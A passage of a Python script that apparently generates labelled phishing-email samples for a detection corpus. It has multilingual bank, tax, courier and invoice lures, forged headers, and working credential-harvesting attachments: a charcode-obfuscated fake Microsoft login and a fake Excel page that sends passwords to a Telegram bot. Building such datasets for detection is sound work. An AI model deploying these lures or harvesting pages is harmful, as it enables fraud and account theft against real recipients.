            "and redirects to a .sbs credential page with the recipient's base64 address",
            rcpt, t, "185.222.58.140", "mail.hsbc-payadvice.com", "mail.hsbc-payadvice.com", sender, "pass",
            [("hsbc-payadvice.com", "mail", "pass")], "none", head, body, ctry="NL"))


def p_factuur_charcode_html() -> None:
    n = "b9-factuur-charcode-html"
    t = at("2023-09-26 12:31:47")
    rcpt = "administratie@hoekstra-accountants.nl"
    sender = "info@vandijk-installatietechniek.nl"
    host = "server12.hostingpartner-nl.net"
    inner = _ms_login_page(rcpt, "https://cloud-sharepoint-nl.xyz/owa/verify.php", "Factuur_2023-0917.pdf",
                           "Document beveiligd", "Meld u aan met uw e-mailaccount om Factuur_2023-0917.pdf te openen.",
                           "Aanmelden", "Wachtwoord")
    codes = ",".join(str(ord(c)) for c in inner)
    page = f"""<html><head><meta charset="utf-8"></head><body>
<script>document.write(String.fromCharCode({codes}));</script>
</body></html>
"""
    text = """Geachte relatie,

In de bijlage treft u factuur 2023-0917 aan voor de uitgevoerde werkzaamheden.
Wij verzoeken u vriendelijk het bedrag binnen 14 dagen te voldoen.

Met vriendelijke groet,

Van Dijk Installatietechniek
Administratie
"""
    body = mixed(n, [plain(text), att("text/html", "Factuur_2023-0917.htm", page.encode())], "roundcube", 1)
    head = f"""{dkim(n, "vandijk-installatietechniek.nl", "default", t, "Message-ID:Subject:To:From:Date:Content-Type:MIME-Version:Sender:Reply-To")}
{r_exim_auth(n, host, "154.118.229.3", sender, rcpt, t - timedelta(seconds=2), "Europe/Amsterdam", "[127.0.0.1]")}
MIME-Version: 1.0
Date: {fmt(t - timedelta(seconds=3), "Europe/Amsterdam")}
From: {who("Van Dijk Installatietechniek", sender)}
To: {rcpt}
Subject: Factuur 2023-0917 ter betaling
Message-ID: {roundcube_mid(n, "vandijk-installatietechniek.nl")}
X-Sender: {sender}
User-Agent: Roundcube Webmail/1.6.1"""
    add(Msg(n, "phishing",
            "Dutch invoice lure from a compromised installer's mailbox; the .htm attachment writes a Dutch Microsoft sign-in page "
            "from String.fromCharCode() codes, posting the password to a .xyz host",
            rcpt, t, "185.104.29.12", host, host, sender, "pass",
            [("vandijk-installatietechniek.nl", "default", "pass")], "none", head, body, ctry="NL", lang="nl"))


def p_factura_pdf_link() -> None:
    n = "b9-factura-pdf-link"
    t = at("2025-02-11 09:18:04")
    rcpt = "administracion@costa-arquitectos.es"
    sender = "facturacion@suministros-levante-sl.com"
    link = f"https://onedrive-docs-viewer.top/s/FV-2025-0381?u={rcpt}"
    pdf = files.pdf(["Suministros Levante S.L.", "", "FACTURA N. FV-2025-0381", "",
                     "Este documento esta protegido por Microsoft OneDrive.",
                     "Para ver la factura completa, haga clic en el boton inferior",
                     "e inicie sesion con su cuenta de correo corporativa.", "",
                     "Importe pendiente: 7.412,60 EUR"], (link, (56, 560, 300, 600)), "Factura FV-2025-0381")
    html = """<html><body style="font-family:Arial,sans-serif;font-size:13px">
<p>Buenos días,</p>
<p>Adjuntamos la factura <b>FV-2025-0381</b> correspondiente al suministro de enero, pendiente de pago.</p>
<p>Les rogamos confirmen la recepción y procedan al abono antes del 20/02/2025.</p>
<p>Un saludo,<br>Departamento de Facturación<br>Suministros Levante S.L.</p>
</body></html>
"""
    body = mixed(n, [alt(n, html2text(html), html, "php", 0), att("application/pdf", "Factura_FV-2025-0381.pdf", pdf)], "php", 1)
    head = f"""{dkim(n, "suministros-levante-sl.com", "s1", t)}
Date: {fmt(t - timedelta(seconds=2), "Europe/Madrid")}
To: {rcpt}
From: {who("Dpto. Facturación | Suministros Levante", sender, q=True)}
Subject: {ew("Factura pendiente de pago Nº FV-2025-0381")}
Message-ID: {phpmailer_mid(n, "suministros-levante-sl.com")}
X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0"""
    add(Msg(n, "phishing",
            "Spanish unpaid-invoice lure from a newly registered supplier-like domain; the PDF has no invoice, only a "
            "'protected document' button linking to a OneDrive-lookalike .top page with the recipient's address",
            rcpt, t, "45.137.21.88", "mail.suministros-levante-sl.com", "mail.suministros-levante-sl.com", sender, "pass",
            [("suministros-levante-sl.com", "s1", "pass")], "none", head, body, ctry="ES", lang="es"))


def p_excel_viewer_ordine() -> None:
    n = "b9-excel-viewer-ordine"
    t = at("2024-09-17 07:55:30")
    rcpt = "amministrazione@ferramenta-gallo.it"
    sender = "acquisti@termoidraulica-bresciani.it"
    token = base64.b64encode(rcpt.encode()).decode()
    link = f"https://excel-online-view.pages.dev/?doc=4500012873&u={token}"
    html = f"""<html><body style="font-family:'Segoe UI',Arial,sans-serif;font-size:14px;color:#222">
<p>Buongiorno,</p>
<p>in allegato l'ordine d'acquisto aggiornato. Vi preghiamo di confermare disponibilità e tempi di consegna.</p>
<table cellpadding="0" cellspacing="0" style="border:1px solid #d0d0d0;margin:16px 0"><tr>
<td style="background:#217346;color:#fff;font-weight:bold;padding:14px 16px;font-size:20px">X</td>
<td style="padding:10px 16px"><b>Ordine_4500012873.xlsx</b><br><span style="color:#666;font-size:12px">86 KB &middot; Excel Online</span></td>
<td style="padding:10px 16px"><a href="{link}" style="color:#217346;font-weight:bold;text-decoration:none">Visualizza</a></td>
</tr></table>
<p>Il file è condiviso tramite Excel Online: accedere con l'indirizzo e-mail aziendale per aprirlo.</p>
<p>Cordiali saluti,<br>Ufficio Acquisti<br>Termoidraulica Bresciani S.r.l.</p>
</body></html>
"""
    head = f"""Received: from [102.129.143.77] ([102.129.143.77])
\tby smtpdh12-1.aruba.it with ESMTPSA
\tid {an(n, 'aru', 20)}; {fmt(t - timedelta(seconds=2), "Europe/Rome")}
Date: {fmt(t - timedelta(seconds=3), "Europe/Rome")}
From: {who("Ufficio Acquisti", sender)}
To: {rcpt}
Subject: {ew("Ordine d'acquisto N. 4500012873 - conferma disponibilità")}
Message-ID: {roundcube_mid(n, "termoidraulica-bresciani.it")}
MIME-Version: 1.0
X-Mailer: Open-Xchange Mailer v7.10.6-Rev62"""
    add(Msg(n, "phishing",
            "Italian purchase-order lure from a compromised supplier mailbox at Aruba: no attachment, an 'Excel Online' "
            "file card linking to a Cloudflare pages.dev viewer that asks for the company mailbox login",
            rcpt, t, "62.149.155.12", "smtpdh12-1.aruba.it", "smtpdh12-1.aruba.it", sender, "pass", [], "none",
            head, alt(n, html2text(html), html, "java"), ctry="IT", score=2.8, lang="it"))


def p_statement_telegram_exfil() -> None:
    n = "b9-statement-telegram-exfil"
    t = at("2023-04-18 15:22:09")
    rcpt = "sarah.whitlock84@gmail.com"
    sender = "accounts.dept0419@gmail.com"
    token = f"{num(n, 'bot', 5000000000, 6999999999)}:AAH{an(n, 'tok', 32)}"
    chat = f"-100{num(n, 'chat', 1000000000, 1999999999)}"
    page = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>Statement_Apr2023.xlsx</title>
<style>body{margin:0;font-family:Segoe UI,Arial;background:url('https://i.ibb.co/7QpKsCv/excel-blur.png') center/cover}
.m{width:340px;margin:120px auto;background:#fff;padding:28px;border-top:6px solid #217346;box-shadow:0 0 20px #0005}
input{width:100%;padding:8px;margin:6px 0 12px;border:1px solid #bbb}button{background:#217346;color:#fff;border:0;padding:9px;width:100%}</style>
</head><body><div class="m"><h3>Microsoft Excel</h3>
<p style="font-size:13px">This file is protected. Confirm your email password to view <b>Statement_Apr2023.xlsx</b></p>
<input id="e" type="email" value="__EMAIL__"><input id="p" type="password" placeholder="Email password">
<button onclick="s()">View Document</button><p id="err" style="color:#c00;font-size:12px"></p></div>
<script>
var c=0;
function s(){var e=document.getElementById('e').value,p=document.getElementById('p').value;
fetch('https://api.ipify.org?format=json').then(function(r){return r.json()}).then(function(j){
var m='XLS LOG\\nEmail: '+e+'\\nPass: '+p+'\\nIP: '+j.ip+'\\nUA: '+navigator.userAgent;
fetch('https://api.telegram.org/bot__TOKEN__/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},
body:JSON.stringify({chat_id:'__CHAT__',text:m})});
c++;if(c<2){document.getElementById('err').innerText='Incorrect password. Please try again.';}
else{window.location.href='https://www.office.com/';}});}
</script></body></html>
""".replace("__EMAIL__", rcpt).replace("__TOKEN__", token).replace("__CHAT__", chat)
    text = "Hi,\n\nPlease see attached statement of account for April. Kindly review and advise.\n\nThanks\nAccounts Dept\n"
    html = '<div dir="ltr">Hi,<div><br></div><div>Please see attached statement of account for April. Kindly review and advise.</div><div><br></div><div>Thanks</div><div>Accounts Dept</div></div>\n'
    body = mixed(n, [alt(n, text, html, "gmail", 0), att("text/html", "Statement_Apr2023.xlsx.htm", page.encode())], "gmail", 1)
    head = f"""{gmail_sender_head(n, t)}
MIME-Version: 1.0
From: {who("Accounts Department", sender)}
Date: {fmt(t - timedelta(seconds=3), "Africa/Lagos")}
Message-ID: {gmail_mid(n)}
Subject: {ew("Statement of Account – April 2023")}
To: {rcpt}"""
    add(Msg(n, "phishing",
            "Statement-of-account lure from a free Gmail account; the 'Statement_Apr2023.xlsx.htm' attachment shows a blurred "
            "Excel sheet with a password prompt and sends the credentials to a Telegram bot through api.telegram.org",
            rcpt, t, "209.85.220.41", "mail-sor-f41.google.com", "mail-sor-f41.google.com", sender, "pass",
            [("gmail.com", gsel(t), "pass")], "pass", head, body))


def r_php_local(name: str, host: str, moment: datetime, zone: str = "UTC", uid: int = 33) -> str:
    """A web script handing mail to the local Postfix (kits and compromised sites)."""
    return f"Received: by {host} (Postfix, from userid {uid})\n\tid {hx(name, 'uid', 10).upper()}; {fmtz(moment, zone)}"


def kit_head(n: str, t: datetime, host: str, domain: str, rcpt: str, display: str, address: str, subject: str,
             zone: str = "UTC", sign: str | None = "default", mailer: str = "PHPMailer 6.8.1", uid: int = 33,
             extra: str = "") -> str:
    """Headers of a phishing kit's mail, sent by PHP through the host's own Postfix."""
    lines = [r_php_local(n, host, t - timedelta(seconds=1), zone, uid)]
    if sign:
        lines.insert(0, dkim(n, domain, sign, t))
    lines += [f"Date: {fmt(t - timedelta(seconds=2), zone)}", f"To: {rcpt}", f"From: {who(display, address)}",
              f"Subject: {ew(subject)}", f"Message-ID: {phpmailer_mid(n, domain)}"]
    if mailer:
        lines.append(f"X-Mailer: {mailer} (https://github.com/PHPMailer/PHPMailer)")
    if extra:
        lines.append(extra)
    lines.append("MIME-Version: 1.0")
    return "\n".join(lines)


def brand_mail(title: str, colour: str, paragraphs: list[str], button: tuple[str, str] | None = None,
               footer: str = "", after: list[str] | None = None, font: str = "Arial,Helvetica,sans-serif") -> str:
    """The generic one-column brand template phishing kits use."""
    ps = "\n".join(f"<p>{p}</p>" for p in paragraphs)
    btn = ""
    if button:
        btn = (f'<p style="text-align:center;margin:26px 0"><a href="{button[1]}" style="background:{colour};color:#ffffff;'
               f'padding:12px 28px;text-decoration:none;border-radius:4px;font-weight:bold">{button[0]}</a></p>')
    tail = "\n".join(f"<p>{p}</p>" for p in (after or []))
    foot = f'<p style="font-size:11px;color:#888;border-top:1px solid #eee;padding-top:10px">{footer}</p>' if footer else ""
    return f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f4f4f4">
<table width="100%" cellpadding="0" cellspacing="0" style="background:#f4f4f4"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:{font};font-size:14px;color:#222">
<tr><td style="background:{colour};color:#ffffff;font-size:22px;font-weight:bold;padding:18px 24px">{title}</td></tr>
<tr><td style="padding:20px 24px">
{ps}
{btn}
{tail}
{foot}
</td></tr></table></td></tr></table></body></html>
"""


def p_chase_new_device() -> None:
    n = "b9-chase-new-device"
    t = at("2022-07-11 08:14:37")
    rcpt = "robert.haines@comcast.net"
    sender = "alerts@chase-accountsecurity.com"
    link = f"https://chase.com.secure-verify-device.info/logon/?ref=CH{num(n, 'ref', 100000, 999999)}"
    html = brand_mail("CHASE", "#117aca", [
        "Dear Customer,",
        "We noticed a sign-in to your Chase Online&#8480; account from a device we don't recognize:",
        "<b>Device:</b> Windows 10 &middot; Chrome<br><b>Location:</b> Houston, TX<br><b>Time:</b> 07/11/2022 4:02 AM ET",
        "If you don't recognize this activity, please verify your identity within 24 hours. "
        "Otherwise your online access will be temporarily restricted for your protection."],
        ("Verify Your Identity", link),
        "JPMorgan Chase Bank, N.A. Member FDIC &copy;2022 JPMorgan Chase &amp; Co. Please do not reply to this automated email.")
    head = kit_head(n, t, "mail.chase-accountsecurity.com", "chase-accountsecurity.com", rcpt, "Chase Online Alerts", sender,
                    "Chase Alert: New device sign-in - verification required", sign=None)
    add(Msg(n, "phishing",
            "Chase 'new device sign-in' lure to a Comcast mailbox from a lookalike domain on a cheap VPS; 'Verify Your Identity' "
            "link to chase.com as a subdomain of a .info domain, 24-hour threat",
            rcpt, t, "104.168.155.73", "104-168-155-73-host.colocrossing.com", "mail.chase-accountsecurity.com", sender,
            "pass", [], "none", head, alt(n, html2text(html), html), score=0.2))


def p_carte_suspendue_ca() -> None:
    n = "b9-carte-suspendue-ca"
    t = at("2023-01-24 17:48:02")
    rcpt = "jm.lefevre@orange.fr"
    sender = "no-reply@ca-particuliers-securite.online"
    link = f"https://ca-particuliers-securite.online/authentification/?dossier=CA-{num(n, 'd', 10000000, 99999999)}"
    html = brand_mail("Crédit Agricole", "#007461", [
        "Cher(e) client(e),",
        "Dans le cadre de la directive européenne DSP2 sur l'authentification forte, nous n'avons pas pu confirmer "
        "les informations associées à votre carte bancaire.",
        "<b>Par mesure de sécurité, votre carte a été suspendue temporairement.</b>",
        "Pour la réactiver, veuillez confirmer votre identité en vous connectant à votre espace client avant le 26/01/2023."],
        ("Réactiver ma carte", link),
        "Crédit Agricole &middot; Service Sécurité Clients. Ceci est un message automatique, merci de ne pas y répondre.")
    head = kit_head(n, t, "vps-4f2a81c3.vps.ovh.net", "ca-particuliers-securite.online", rcpt, "Crédit Agricole", sender,
                    "Votre carte bancaire a été suspendue temporairement", "Europe/Paris")
    add(Msg(n, "phishing",
            "French bank-card suspension lure (Crédit Agricole, DSP2 pretext) to an orange.fr mailbox from a throwaway "
            ".online domain on an OVH VPS, link to the same domain's fake login",
            rcpt, t, "51.89.153.201", "vps-4f2a81c3.vps.ovh.net", "vps-4f2a81c3.vps.ovh.net", sender, "pass",
            [("ca-particuliers-securite.online", "default", "pass")], "none", head, alt(n, html2text(html), html),
            ctry="FR", score=3.0, lang="fr"))


def p_sparkasse_pushtan_redirect() -> None:
    n = "b9-sparkasse-pushtan-redirect"
    t = at("2024-03-05 06:31:55")
    rcpt = "k.schmitt@t-online.de"
    sender = "kundenservice@sparkasse-pushtan.shop"
    link = f"https://www.google.com/amp/s/sparkasse-pushtan-update.shop/de/login/?kid=K{num(n, 'k', 1000000, 9999999)}"
    html = brand_mail("Sparkasse", "#ff0000", [
        "Sehr geehrte Kundin, sehr geehrter Kunde,",
        "aufgrund neuer Sicherheitsrichtlinien muss Ihr pushTAN-Verfahren bis zum <b>08.03.2024</b> aktualisiert werden.",
        "Nach Ablauf der Frist wird Ihr Zugang zum Online-Banking aus Sicherheitsgründen vorübergehend gesperrt.",
        "Die Aktualisierung dauert nur wenige Minuten:"],
        ("Jetzt aktualisieren", link),
        "Ihre Sparkasse &middot; Diese E-Mail wurde automatisch erstellt.")
    head = kit_head(n, t, "vm44.serverhost24.net", "sparkasse-pushtan.shop", rcpt, "Sparkasse", sender,
                    "Wichtig: Aktualisierung Ihres pushTAN-Verfahrens erforderlich", "Europe/Berlin")
    add(Msg(n, "phishing",
            "German Sparkasse pushTAN-update lure to a t-online.de mailbox from a throwaway .shop domain; the button goes "
            "through Google's AMP open redirect to a .shop phishing host, with a lock-out deadline",
            rcpt, t, "5.181.190.44", "vm44.serverhost24.net", "sparkasse-pushtan.shop", sender, "pass",
            [("sparkasse-pushtan.shop", "default", "pass")], "none", head, alt(n, html2text(html), html),
            ctry="DE", lang="de"))


def p_ing_betaalpas() -> None:
    n = "b9-ing-betaalpas"
    t = at("2023-11-28 19:05:12")
    rcpt = "pieter@dewitt-thuis.nl"
    sender = "service@ing-pasvervanging.icu"
    link = f"https://mijn.ing.nl.pasvervanging.icu/login/?ref=NL{num(n, 'r', 100000, 999999)}"
    html = brand_mail("ING", "#ff6200", [
        "Geachte heer/mevrouw,",
        "Uw huidige betaalpas verloopt op <b>30-11-2023</b>. Om te voorkomen dat u niet meer kunt pinnen en betalen, "
        "vragen wij u tijdig een nieuwe betaalpas aan te vragen en uw gegevens te bevestigen.",
        "Heeft u dit niet gedaan voor de vervaldatum, dan wordt uw pas automatisch geblokkeerd."],
        ("Nieuwe betaalpas aanvragen", link),
        "ING Bank N.V. &middot; Dit is een automatisch gegenereerd bericht.")
    head = kit_head(n, t, "ing-pasvervanging.icu", "ing-pasvervanging.icu", rcpt, "ING", sender,
                    "Uw betaalpas verloopt binnenkort - vraag tijdig een nieuwe pas aan", "Europe/Amsterdam", sign=None)
    add(Msg(n, "phishing",
            "Dutch ING debit-card-expiry lure from a throwaway .icu domain (no reverse DNS); link puts mijn.ing.nl in front of "
            "the .icu phishing domain",
            rcpt, t, "194.26.192.77", None, "ing-pasvervanging.icu", sender, "pass", [], "none", head,
            alt(n, html2text(html), html), ctry="NL", score=2.9, lang="nl"))


def p_poste_3dsecure() -> None:
    n = "b9-poste-3dsecure"
    t = at("2023-05-09 10:44:26")
    rcpt = "giulia.ferraro@libero.it"
    sender = "info@pizzeria-dagino.it"
    link = f"https://poste-3dsecure-verifica.xyz/postepay/accesso?id={hx(n, 'id', 20)}"
    html = brand_mail("Poste Italiane", "#ffcc00", [
        "Gentile Cliente,",
        "dal 10/05/2023 entra in vigore il nuovo sistema di sicurezza <b>3D Secure</b> per i pagamenti online con carta Postepay.",
        "Per continuare ad utilizzare la sua carta è necessario completare l'aggiornamento. In caso contrario la carta verrà "
        "sospesa per le operazioni online."],
        ("Aggiorna ora", link),
        "Poste Italiane S.p.A. &middot; Messaggio generato automaticamente, si prega di non rispondere.")
    html = html.replace("color:#ffffff;font-size:22px", "color:#0047bb;font-size:22px")
    head = f"""Received: from [91.215.85.140] ([91.215.85.140])
\tby smtpout3.hostingsolutions.it with ESMTPSA
\tid {an(n, 'hs', 14)}; {fmt(t - timedelta(seconds=2), "Europe/Rome")}
Date: {fmt(t - timedelta(seconds=3), "Europe/Rome")}
From: {who("Poste Italiane", sender)}
To: {rcpt}
Subject: {ew("Postepay: aggiornamento obbligatorio 3D Secure")}
Message-ID: <{hx(n, 'mid', 16)}.{num(n, 'mid2', 1000, 9999)}@pizzeria-dagino.it>
X-Mailer: Microsoft Outlook 16.0
MIME-Version: 1.0"""
    add(Msg(n, "phishing",
            "Italian Postepay '3D Secure update' lure to a libero.it mailbox, sent from a compromised pizzeria's mailbox with "
            "'Poste Italiane' as display name; link to a .xyz page",
            rcpt, t, "195.110.124.133", "smtpout3.hostingsolutions.it", "smtpout3.hostingsolutions.it", sender, "pass", [],
            "none", head, alt(n, html2text(html), html, "outlook"), ctry="IT", lang="it"))


def p_bbva_tarjeta_bloqueada() -> None:
    n = "b9-bbva-tarjeta-bloqueada"
    t = at("2022-10-05 16:20:48")
    rcpt = "lucia.romero.v@gmail.com"
    sender = "alertas@bbva-seguridad-clientes.com"
    link = f"https://bit.ly/3{an(n, 'bit', 6)}"
    html = brand_mail("BBVA", "#072146", [
        "Estimado/a cliente:",
        "Hemos detectado un intento de compra no autorizado con su tarjeta terminada en <b>**** 4417</b>.",
        "Por su seguridad, <b>su tarjeta ha sido bloqueada temporalmente</b>. Para desbloquearla, verifique su identidad "
        "en las próximas 24 horas."],
        ("Verificar identidad", link),
        "BBVA &middot; Este mensaje ha sido enviado automáticamente, por favor no responda.")
    head = kit_head(n, t, "server1.bbva-seguridad-clientes.com", "bbva-seguridad-clientes.com", rcpt, "BBVA", sender,
                    "Aviso de seguridad: su tarjeta ha sido bloqueada temporalmente", "Europe/Madrid")
    add(Msg(n, "phishing",
            "Spanish BBVA blocked-card lure to a Gmail address from a lookalike domain; the 'verify identity' link is a bit.ly "
            "short link, 24-hour deadline",
            rcpt, t, "198.12.97.55", "server1.bbva-seguridad-clientes.com", "server1.bbva-seguridad-clientes.com", sender,
            "pass", [("bbva-seguridad-clientes.com", "default", "pass")], "none", head, alt(n, html2text(html), html)))


def p_impots_remboursement_zw() -> None:
    n = "b9-impots-remboursement-zw"
    t = at("2022-06-14 05:02:31")
    rcpt = "p.garnier@free.fr"
    sender = "contact@asso-amis-du-moulin.fr"
    link = f"https://lesjardinsdecamille.fr/wp-content/uploads/2022/06/dgfip/index.php?ref=FR{num(n, 'r', 1000000, 9999999)}"
    words = ["remboursement", "impôts", "Remboursement", "fiscal", "bancaires"]
    html = zw(brand_mail("impots.gouv.fr", "#000091", [
        "Madame, Monsieur,",
        "Après le dernier calcul annuel de votre activité fiscale, nous avons déterminé que vous êtes éligible à un "
        "remboursement d'impôts d'un montant de <b>348,60 &euro;</b>.",
        "Pour recevoir votre remboursement, veuillez compléter le formulaire et vérifier vos coordonnées bancaires."],
        ("Accéder au formulaire", link),
        "Direction Générale des Finances Publiques &middot; Référence : 2022-RFD-44182"), words)
    head = kit_head(n, t, "cluster021.hosting.ovh.net", "asso-amis-du-moulin.fr", rcpt, "DGFiP - impots.gouv.fr", sender,
                    zw("Avis de remboursement : 348,60 € en votre faveur", ["remboursement"]), "Europe/Paris",
                    sign=None, mailer="", uid=1004)
    add(Msg(n, "phishing",
            "French DGFiP tax-refund lure (348,60 €) to a free.fr mailbox, mailed by a PHP script on OVH shared hosting under "
            "a compromised association's address; zero-width spaces inside key words; link to a compromised WordPress uploads folder",
            rcpt, t, "213.186.33.19", "cluster021.hosting.ovh.net", "cluster021.hosting.ovh.net", sender, "pass", [], "none",
            head, html_only(html), ctry="FR", score=4, lang="fr"))


def p_hmrc_refund() -> None:
    n = "b9-hmrc-refund"
    t = at("2022-08-30 11:37:50")
    rcpt = "dave@brightwater-plumbing.co.uk"
    sender = "refunds@hmrc-taxrefunds.co.uk"
    link = f"https://hmrc-gov-uk.refund-claim.online/?ref=UTR{num(n, 'u', 1000000000, 9999999999)}"
    html = brand_mail("GOV.UK &nbsp; HM Revenue &amp; Customs", "#0b0c0c", [
        "Dear Taxpayer,",
        "After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a "
        "tax refund of <b>&pound;412.37</b>.",
        "Please submit the tax refund request and allow us 3-5 working days to process it. A refund can be delayed for a "
        "variety of reasons, for example submitting invalid records or applying after the deadline."],
        ("Claim your refund", link),
        "HM Revenue &amp; Customs &middot; &copy; Crown copyright")
    head = kit_head(n, t, "mail.hmrc-taxrefunds.co.uk", "hmrc-taxrefunds.co.uk", rcpt, "HM Revenue & Customs", sender,
                    "Tax Refund Notification - you are eligible to receive £412.37", "Europe/London", sign=None)
    add(Msg(n, "phishing",
            "HMRC tax-refund lure (£412.37) to a small UK business on cPanel from an HMRC lookalike domain without SPF; "
            "'Claim your refund' link to gov-uk lookalike on a .online domain",
            rcpt, t, "91.92.241.17", None, "mail.hmrc-taxrefunds.co.uk", sender, "none", [], "none", head,
            alt(n, html2text(html), html), ctry="BG", score=4.6))


def p_irs_refund_hold() -> None:
    n = "b9-irs-refund-hold"
    t = at("2023-03-21 14:09:33")
    rcpt = "dmckenna@comcast.net"
    sender = "irs-notice@efile-refundstatus.us"
    link = f"https://irs-gov.refund-status.co/verify?case=IRS-{num(n, 'c', 10000000, 99999999)}"
    html = brand_mail("IRS &nbsp; Internal Revenue Service", "#00599c", [
        "Dear Taxpayer,",
        "Your 2022 federal tax refund of <b>$1,847.00</b> has been placed <b>on hold</b> because we were unable to verify "
        "your identity (Notice CP01H).",
        "To release your refund, please complete the identity verification form, including the bank account where the "
        "refund should be deposited. If we do not receive the information within 72 hours, your refund will be delayed "
        "up to 180 days."],
        ("Verify Identity &amp; Release Refund", link),
        "Internal Revenue Service &middot; U.S. Department of the Treasury")
    head = kit_head(n, t, "mail.efile-refundstatus.us", "efile-refundstatus.us", rcpt, "IRS Online", sender,
                    "Action Required: Your 2022 Tax Refund Is On Hold", "America/New_York")
    add(Msg(n, "phishing",
            "IRS refund-on-hold lure to a Comcast mailbox from a .us throwaway domain, asking for identity and bank details "
            "through an irs-gov lookalike on a .co domain",
            rcpt, t, "23.94.28.141", "23-94-28-141-host.colocrossing.com", "mail.efile-refundstatus.us", sender, "pass",
            [("efile-refundstatus.us", "default", "pass")], "none", head, alt(n, html2text(html), html), score=0.3))


def p_agenzia_entrate() -> None:
    n = "b9-agenzia-entrate"
    t = at("2024-11-12 08:26:14")
    rcpt = "studio@studio-ferri.it"
    sender = "comunicazioni@agenziaentrate-notifiche.com"
    link = f"https://agenziaentrate-areariservata.top/servizi/comunicazione.php?id=2024-0098127&m={rcpt}"
    html = brand_mail("Agenzia delle Entrate", "#06c", [
        "Gentile contribuente,",
        "le comunichiamo che è disponibile nella sua area riservata la <b>comunicazione di irregolarità n. 2024/0098127/2</b> "
        "relativa alla dichiarazione dei redditi.",
        "Per consultarla e regolarizzare la posizione senza l'applicazione di ulteriori sanzioni, acceda entro 5 giorni "
        "con le sue credenziali."],
        ("Accedi all'area riservata", link),
        "Agenzia delle Entrate &middot; Messaggio automatico, si prega di non rispondere.")
    head = kit_head(n, t, "mail.agenziaentrate-notifiche.com", "agenziaentrate-notifiche.com", rcpt,
                    "Agenzia delle Entrate", sender,
                    "Comunicazione di irregolarità - Avviso n. 2024/0098127/2", "Europe/Rome")
    add(Msg(n, "phishing",
            "Italian Agenzia delle Entrate 'irregularity notice' lure to an accountant's office on cPanel from a throwaway "
            "lookalike domain; link to a .top 'area riservata' login with the recipient's address",
            rcpt, t, "45.95.169.103", "mail.agenziaentrate-notifiche.com", "mail.agenziaentrate-notifiche.com", sender,
            "pass", [("agenziaentrate-notifiche.com", "default", "pass")], "none", head, alt(n, html2text(html), html),
            ctry="NL", score=2.5, lang="it"))


def p_ameli_carte_vitale() -> None:
    n = "b9-ameli-carte-vitale"
    t = at("2023-07-04 12:58:40")
    rcpt = "jm.lefevre@orange.fr"
    sender = "contact@menuiserie-paillard.fr"
    link = f"https://atelier-ceramique-lyon.fr/wp-includes/blocks/ameli/?id={hx(n, 'id', 12)}"
    html = brand_mail("ameli &middot; l'Assurance Maladie", "#0c419a", [
        "Chère assurée, cher assuré,",
        "Votre carte Vitale arrive à expiration. Pour continuer à bénéficier de vos remboursements sans avance de frais, "
        "une nouvelle carte Vitale doit être commandée.",
        "Les frais d'envoi sécurisé s'élèvent à <b>1,49 &euro;</b>. Sans action de votre part sous 48 heures, vos "
        "remboursements seront suspendus."],
        ("Commander ma carte Vitale", link),
        "L'Assurance Maladie &middot; Ne pas répondre à ce message.")
    head = f"""Received: from [185.246.209.64] ([185.246.209.64]) by mrelay.perfora.net
 (mreue011 [74.208.4.201]) with ESMTPSA (Nemesis) id 1{an(n, 'nid', 5)}-1{an(n, 'nid2', 9)}-00{an(n, 'nid3', 4)};
 {fmt(t - timedelta(seconds=2), "Europe/Berlin")}
Date: {fmt(t - timedelta(seconds=3), "Europe/Paris")}
From: {who("ameli.fr", sender)}
To: {rcpt}
Subject: {ew("Votre nouvelle carte Vitale : dernière relance avant suspension")}
Message-ID: <{hx(n, 'mid', 32)}@menuiserie-paillard.fr>
MIME-Version: 1.0"""
    add(Msg(n, "phishing",
            "French ameli 'new carte Vitale, 1,49 € shipping' lure to an orange.fr mailbox, sent through IONOS from a "
            "compromised joinery's mailbox under the display name 'ameli.fr'; link to a compromised WordPress site",
            rcpt, t, "74.208.4.201", "mout.perfora.net", "mout.perfora.net", sender, "pass", [], "none", head,
            alt(n, html2text(html), html), ctry="US", score=5.5, lang="fr"))


def p_dhl_zollgebuehr() -> None:
    n = "b9-dhl-zollgebuehr"
    t = at("2022-12-06 15:41:03")
    rcpt = "jens@familie-krueger.de"
    sender = "noreply@dhl-zustellung.info"
    track = f"JJD000452{num(n, 'j', 10000000000, 99999999999)}"
    link = f"https://dhl-de-paket.zoll-gebuehr.cfd/track?id={track}"
    html = brand_mail("DHL", "#d40511", [
        "Hallo,",
        f"Ihre Sendung <b>{track}</b> befindet sich in unserem Verteilzentrum in Leipzig.",
        "Für die Zustellung ist eine Zollgebühr in Höhe von <b>1,99 EUR</b> offen. Bitte begleichen Sie den Betrag "
        "innerhalb von 48 Stunden, andernfalls wird die Sendung an den Absender zurückgeschickt."],
        ("Gebühr bezahlen", link),
        "DHL Paket GmbH &middot; Diese E-Mail wurde automatisch versendet.")
    html = html.replace("background:#d40511;color:#ffffff;font-size:22px", "background:#ffcc00;color:#d40511;font-size:22px")
    head = kit_head(n, t, "mail.dhl-zustellung.info", "dhl-zustellung.info", rcpt, "DHL Express", sender,
                    "Ihr Paket wartet: Zollgebühr 1,99 EUR ausstehend", "Europe/Berlin")
    add(Msg(n, "phishing",
            "German DHL customs-fee lure (1,99 EUR) to a personal domain on IONOS from a DHL lookalike .info domain; link to "
            "a .cfd card-payment page",
            rcpt, t, "185.196.8.212", "mail.dhl-zustellung.info", "mail.dhl-zustellung.info", sender, "pass",
            [("dhl-zustellung.info", "default", "pass")], "none", head, alt(n, html2text(html), html), ctry="CH", lang="de"))


def p_postnl_betaling() -> None:
    n = "b9-postnl-betaling"
    t = at("2023-08-15 13:17:29")
    rcpt = "anke@vos-familie.nl"
    sender = "info@postnl-bezorging.net"
    code = f"3SPNL{num(n, 'c', 100000000, 999999999)}"
    link = f"https://postnl.nl-track.cyou/pakket/{code}"
    html = brand_mail("PostNL", "#ed7000", [
        "Beste klant,",
        f"Uw pakket <b>{code}</b> kon vandaag niet worden bezorgd omdat het adres onvolledig is.",
        "Bevestig uw adresgegevens en betaal de herbezorgkosten van <b>&euro; 1,95</b> om een nieuwe bezorgdatum te kiezen. "
        "Zonder reactie binnen 3 dagen wordt het pakket teruggestuurd."],
